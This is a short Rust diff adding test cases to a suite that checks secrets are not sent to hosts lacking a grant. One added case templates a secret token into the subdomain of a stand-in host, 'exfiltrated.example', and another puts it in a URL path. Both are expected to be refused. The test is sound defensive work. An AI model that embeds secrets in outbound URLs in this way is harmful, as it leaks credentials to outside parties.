@@ -100,6 +100,14 @@ async fn what_is_not_granted_for_a_host_does_not_travel_there() {
             "secret `root-password` is not granted;",
         ),
         (
+            send("http://{{secret:token}}.exfiltrated.example/", "", ""),
+            "a secret in a url is refused",
+        ),
+        (
+            send(&upstream.url("/{{secret:token}}"), "", ""),
+            "a secret in a url is refused",
+        ),
+        (
             send(&upstream.url("/echo?k={{secret:token}}"), "", ""),
             "a secret in a url is refused",
         ),
